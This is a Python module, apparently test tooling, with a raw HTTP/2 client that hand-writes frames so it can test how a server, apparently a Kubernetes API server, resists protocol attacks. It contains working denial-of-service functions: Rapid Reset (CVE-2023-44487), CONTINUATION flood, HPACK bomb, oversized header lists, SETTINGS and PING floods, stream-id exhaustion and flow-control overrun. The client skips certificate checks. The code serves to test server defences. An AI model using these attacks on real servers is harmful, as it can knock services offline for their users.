"""A raw HTTP/2 client for the attack tests: frames as the bytes a hostile peer sends.

The ``h2`` library refuses to send what a hostile peer sends (CONTINUATION without END_HEADERS
forever, DATA past the window, duplicate SETTINGS, stream ids out of order), so this client
writes ``hyperframe`` frames with an ``hpack`` encoder of its own, over one TLS connection that
negotiated ``h2`` by ALPN, and records everything the server answers: its SETTINGS, GOAWAY
(error code, last stream id, debug data), RST_STREAM codes per stream, response headers, DATA
bytes per stream, and whether and when the connection closed. Reads block on the socket with a
deadline: a test waits for a frame or for the close, never for a fixed time.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import time
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

#: RFC 9113 section 7 error codes, by number.
ERROR_CODES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY",
    0xD: "HTTP_1_1_REQUIRED",
}
CODES = {name: code for code, name in ERROR_CODES.items()}


def code_name(code: int | None) -> str | None:
    return None if code is None else ERROR_CODES.get(code, hex(code))


@dataclass
class Received:
    """What the server sent on one connection, as it arrived."""

    settings: dict[int, int] = field(default_factory=dict)
    settings_acks: int = 0
    ping_acks: int = 0
    goaway_code: int | None = None
    goaway_last_stream: int | None = None
    goaway_debug: bytes = b""
    rst: dict[int, int] = field(default_factory=dict)
    headers: dict[int, list[tuple[str, str]]] = field(default_factory=dict)
    data: dict[int, int] = field(default_factory=dict)
    ended: set[int] = field(default_factory=set)
    closed: bool = False
    closed_after: float | None = None  # seconds from the connection's start
    trace: list[str] = field(default_factory=list)  # the first frames, for failure messages

    @property
    def goaway(self) -> str | None:
        return code_name(self.goaway_code)

    def rst_codes(self) -> Counter[str]:
        return Counter(code_name(c) or "" for c in self.rst.values())

    def status(self, stream_id: int) -> str | None:
        return dict(self.headers.get(stream_id, [])).get(":status")

    def summary(self) -> str:
        return (
            f"GOAWAY={self.goaway} (last stream {self.goaway_last_stream}, {self.goaway_debug[:80]!r}) "
            f"RST={dict(self.rst_codes())} statuses={Counter(self.status(s) for s in self.headers)} "
            f"closed={self.closed} after={self.closed_after}"
        )


class H2Wire:
    """One TLS connection speaking HTTP/2 frame by frame.

    ``settings`` are the client's SETTINGS (sent after the preface); ``recv_buffer`` shrinks the
    socket's receive buffer so a server that keeps writing to a client that does not read fills
    it quickly (the slow-reader and control-frame flood cases).
    """

    def __init__(
        self,
        host: str,
        port: int,
        *,
        settings: dict[int, int] | None = None,
        recv_buffer: int | None = None,
        timeout: float = 5.0,
    ) -> None:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if recv_buffer is not None:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, recv_buffer)
        raw.settimeout(timeout)
        raw.connect((host, port))
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = ctx.wrap_socket(raw, server_hostname=host)
        self.alpn = self.sock.selected_alpn_protocol()
        self.started = time.monotonic()
        self.got = Received()
        self.encoder = Encoder()
        self.decoder = Decoder()
        self.authority = f"{host}:{port}"
        self.send_failed: str | None = None
        self._buf = bytearray()
        if self.alpn != "h2":
            raise AssertionError(f"{self.authority} negotiated {self.alpn!r} by ALPN, not h2")
        self.send_raw(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()

    def __enter__(self) -> H2Wire:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    # ------------------------------------------------------------------ sending

    def send_raw(self, data: bytes, timeout: float = 5.0) -> bool:
        """Write bytes; False (and ``send_failed`` set) once the server has closed or stopped reading."""
        if self.send_failed:
            return False
        self.sock.settimeout(timeout)
        try:
            self.sock.sendall(data)
            return True
        except (OSError, ssl.SSLError) as e:
            self.send_failed = f"{type(e).__name__}: {e}"
            return False

    def send(self, *frames: Frame) -> bool:
        return self.send_raw(b"".join(f.serialize() for f in frames))

    def block(self, headers: Iterable[tuple[str, str]]) -> bytes:
        """An HPACK header block (with this connection's encoder and dynamic table)."""
        return bytes(self.encoder.encode(list(headers)))

    def request_headers(
        self, path: str, method: str = "GET", token: str | None = None, extra: Iterable[tuple[str, str]] = ()
    ) -> list[tuple[str, str]]:
        headers = [(":method", method), (":scheme", "https"), (":authority", self.authority), (":path", path)]
        if token:
            headers.append(("authorization", f"Bearer {token}"))
        return [*headers, *extra]

    def headers_frame(
        self, stream_id: int, headers: Iterable[tuple[str, str]], *, end_stream: bool = True
    ) -> HeadersFrame:
        flags = ["END_HEADERS", *(["END_STREAM"] if end_stream else [])]
        return HeadersFrame(stream_id, data=self.block(headers), flags=flags)

    def request(self, stream_id: int, path: str, token: str | None = None, **kw: object) -> bool:
        return self.send(self.headers_frame(stream_id, self.request_headers(path, token=token, **kw)))  # type: ignore[arg-type]

    # ------------------------------------------------------------------ receiving

    def _record(self, frame: Frame) -> None:
        got = self.got
        if len(got.trace) < 50:
            got.trace.append(f"{time.monotonic() - self.started:.3f} {frame!r}"[:200])
        if isinstance(frame, SettingsFrame):
            if "ACK" in frame.flags:
                got.settings_acks += 1
            else:
                got.settings.update(frame.settings)
                self.send(SettingsFrame(0, flags=["ACK"]))
        elif isinstance(frame, PingFrame):
            if "ACK" in frame.flags:
                got.ping_acks += 1
            else:
                self.send(PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]))
        elif isinstance(frame, GoAwayFrame):
            got.goaway_code = frame.error_code
            got.goaway_last_stream = frame.last_stream_id
            got.goaway_debug = bytes(frame.additional_data)
        elif isinstance(frame, RstStreamFrame):
            got.rst[frame.stream_id] = frame.error_code
        elif isinstance(frame, HeadersFrame | ContinuationFrame):
            # Response header blocks are small: these servers send them in one HEADERS frame.
            got.headers.setdefault(frame.stream_id, []).extend(self._decode(frame))
            if "END_STREAM" in frame.flags:
                got.ended.add(frame.stream_id)
        elif isinstance(frame, DataFrame):
            got.data[frame.stream_id] = got.data.get(frame.stream_id, 0) + len(frame.data)
            if "END_STREAM" in frame.flags:
                got.ended.add(frame.stream_id)

    def _decode(self, frame: HeadersFrame | ContinuationFrame) -> list[tuple[str, str]]:
        return [(str(k), str(v)) for k, v in self.decoder.decode(bytes(frame.data), raw=False)]

    def _read_frame(self, deadline: float) -> Frame | None:
        """The next frame, or None at the deadline or once the connection closed."""
        while True:
            if len(self._buf) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self._buf[:9]))
                if len(self._buf) >= 9 + length:
                    frame.parse_body(memoryview(bytes(self._buf[9 : 9 + length])))
                    del self._buf[: 9 + length]
                    return frame
            if self.got.closed:
                return None
            # Past the deadline one short read still takes what has already arrived.
            self.sock.settimeout(max(deadline - time.monotonic(), 0.001))
            try:
                chunk = self.sock.recv(1 << 16)
            except TimeoutError:
                return None
            except (OSError, ssl.SSLError):
                chunk = b""
            if not chunk:
                self.got.closed = True
                self.got.closed_after = round(time.monotonic() - self.started, 3)
                continue
            self._buf += chunk

    def until(self, done: Callable[[Received], bool], timeout: float) -> bool:
        """Read (and record) frames until ``done(received)`` holds, the connection closes, or ``timeout``."""
        deadline = time.monotonic() + timeout
        while not done(self.got):
            frame = self._read_frame(deadline)
            if frame is None:
                return done(self.got)
            self._record(frame)
        return True

    def until_closed(self, timeout: float) -> bool:
        """Read until the server closes the connection (after its GOAWAY, if any)."""
        return self.until(lambda g: g.closed, timeout)

    def handshake(self, timeout: float = 5.0) -> None:
        """Wait for the server's SETTINGS and its ACK of ours."""
        if not self.until(lambda g: bool(g.settings) and g.settings_acks > 0, timeout):
            raise AssertionError(f"no SETTINGS exchange with {self.authority}: {self.got.summary()}")

    def window_update(self, stream_id: int, increment: int) -> bool:
        return self.send(WindowUpdateFrame(stream_id, window_increment=increment))


def raw_frame(frame_type: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    """A frame written byte by byte (for stream ids and flags hyperframe will not write)."""
    return len(payload).to_bytes(3, "big") + bytes([frame_type, flags]) + stream_id.to_bytes(4, "big") + payload


# ---------------------------------------------------------------------------------------------- attacks
#
# Each attack takes a fresh connection (``H2Wire`` after its handshake) and a bearer token that
# the server accepts, sends its input as fast as the socket takes it, and returns when the server
# has answered it (a frame, a GOAWAY, the connection closed) or its time is up.

#: A request whose handler stays running: a watch (held open until the client leaves).
WATCH = "/api/v1/namespaces/default/configmaps?watch=1&timeoutSeconds=30"
#: A small request answered at once.
SMALL = "/api/v1/namespaces/default"
MAX_STREAM_ID = 2**31 - 1


def rapid_reset(w: H2Wire, token: str, streams: int = 2000, path: str = WATCH, timeout: float = 5.0) -> None:
    """CVE-2023-44487: open a stream and reset it at once, ``streams`` times, in batches of 100."""
    batch: list[Frame] = []
    for i in range(streams):
        sid = 1 + 2 * i
        batch += [w.headers_frame(sid, w.request_headers(path, token=token)), RstStreamFrame(sid, error_code=0x8)]
        if len(batch) >= 200 and not w.send(*batch):
            break
        if len(batch) >= 200:
            batch = []
    if batch:
        w.send(*batch)
    w.send(PingFrame(0, opaque_data=b"rapidrst"))
    w.until(lambda g: g.closed or g.ping_acks > 0, timeout)


def concurrent_streams(w: H2Wire, token: str, streams: int, path: str = WATCH, timeout: float = 5.0) -> None:
    """Open ``streams`` streams that stay open (watches), past the server's SETTINGS_MAX_CONCURRENT_STREAMS."""
    w.send(*(w.headers_frame(1 + 2 * i, w.request_headers(path, token=token)) for i in range(streams)))
    last = 1 + 2 * (streams - 1)
    w.until(lambda g: g.closed or last in g.rst or g.goaway_code is not None, timeout)


def continuation_flood(w: H2Wire, token: str, seconds: float = 3.0, fragment: int = 16_000, empty: bool = False) -> int:
    """HEADERS without END_HEADERS, then CONTINUATION frames without END_HEADERS until the server
    closes or ``seconds`` pass (``empty``: zero-length fragments); returns the header bytes sent."""
    w.send(HeadersFrame(1, data=w.block(w.request_headers(SMALL, token=token)), flags=[]))
    # Literal header fields without indexing (0x00, new name), each ~fragment bytes long.
    value = b"a" * (fragment - 16)
    field = b"\x00\x05x-pad" + _hpack_int(len(value), 7) + value
    frame = ContinuationFrame(1, data=b"" if empty else field).serialize()
    chunk = frame * (64 if empty else 8)
    sent = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end and not w.got.closed:
        if not w.send_raw(chunk, timeout=max(0.1, end - time.monotonic())):
            break
        sent += 0 if empty else len(field) * 8
        w.until(lambda g: False, 0)  # take what the server said so far (a GOAWAY), without waiting
    w.until_closed(max(0.5, end - time.monotonic()))
    return sent


def hpack_bomb(w: H2Wire, token: str, refs: int = 10_000, timeout: float = 5.0) -> None:
    """One 4,000-byte header put into the dynamic table, then referenced ``refs`` times in the same
    block (one byte each: a 10 KB block that decodes to 40 MB of header list)."""
    w.send(SettingsFrame(0, settings={}))
    block = b"\x40\x06x-bomb" + _hpack_int(4000, 7) + b"b" * 4000  # literal with incremental indexing
    block = w.block(w.request_headers(SMALL, token=token)) + block + b"\xbe" * refs  # index 62: the new entry
    _send_block(w, 1, block)
    w.until(lambda g: g.closed or 1 in g.ended or 1 in g.rst, timeout)


def oversized_headers(w: H2Wire, token: str, total: int = 1_200_000, timeout: float = 5.0) -> None:
    """A header list of ``total`` bytes of real (non-indexed) fields, over Go's max header list size."""
    fields = b""
    value = b"v" * 4000
    for i in range(total // 4000):
        name = f"x-big-{i}".encode()
        fields += b"\x00" + _hpack_int(len(name), 7) + name + _hpack_int(len(value), 7) + value
    _send_block(w, 1, w.block(w.request_headers(SMALL, token=token)) + fields)
    w.until(lambda g: g.closed or 1 in g.ended or 1 in g.rst, timeout)


def control_flood(w: H2Wire, kind: str, frames: int = 30_000, timeout: float = 5.0) -> int:
    """``frames`` SETTINGS or PING frames that each ask for an ACK, sent without reading the ACKs;
    returns how many went out before the server stopped reading or closed."""
    one = (SettingsFrame(0, settings={}) if kind == "settings" else PingFrame(0, opaque_data=b"flooding")).serialize()
    sent = 0
    end = time.monotonic() + timeout
    while sent < frames and time.monotonic() < end:
        if not w.send_raw(one * 500, timeout=max(0.1, end - time.monotonic())):
            break
        sent += 500
    w.until_closed(max(0.5, end - time.monotonic()))
    return sent


def stream_id_exhaustion(w: H2Wire, token: str, timeout: float = 5.0) -> None:
    """A request on the last client stream id (2^31-1), then one on a lower id (no id is left)."""
    w.request(MAX_STREAM_ID, SMALL, token=token)
    w.until(lambda g: g.closed or MAX_STREAM_ID in g.ended or MAX_STREAM_ID in g.rst, timeout)
    w.request(3, SMALL, token=token)
    w.until(lambda g: g.closed or 3 in g.ended or 3 in g.rst, timeout)


def flow_control_overrun(w: H2Wire, token: str, path: str, timeout: float = 5.0) -> None:
    """A POST whose body goes 16 KiB past the stream window the server advertised, written at once
    (a 16 KiB DATA frame and one as large as the window) so no WINDOW_UPDATE can come in between."""
    window = w.got.settings.get(0x4, 65535)
    headers = w.request_headers(path, "POST", token, [("content-type", "application/json")])
    w.send(w.headers_frame(1, headers, end_stream=False))
    w.send(DataFrame(1, data=b" " * 16_384), DataFrame(1, data=b" " * window))
    w.until(lambda g: g.closed or 1 in g.rst or g.goaway_code is not None, timeout)


def ping(w: H2Wire, timeout: float = 5.0) -> bool:
    """Whether the connection still answers a PING."""
    acks = w.got.ping_acks
    return (
        w.send(PingFrame(0, opaque_data=b"stillok?"))
        and w.until(lambda g: g.closed or g.ping_acks > acks, timeout)
        and w.got.ping_acks > acks
    )


def _send_block(w: H2Wire, stream_id: int, block: bytes, fragment: int = 16_384) -> None:
    """A header block in one HEADERS (END_STREAM) and as many CONTINUATION frames as it takes."""
    parts = [block[i : i + fragment] for i in range(0, len(block), fragment)] or [b""]
    frames: list[Frame] = [
        HeadersFrame(stream_id, data=parts[0], flags=["END_STREAM"] + (["END_HEADERS"] if len(parts) == 1 else []))
    ]
    for i, part in enumerate(parts[1:], 2):
        frames.append(ContinuationFrame(stream_id, data=part, flags=["END_HEADERS"] if i == len(parts) else []))
    w.send(*frames)


def _hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """An HPACK integer (RFC 7541 section 5.1) with ``first``'s high bits over the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)
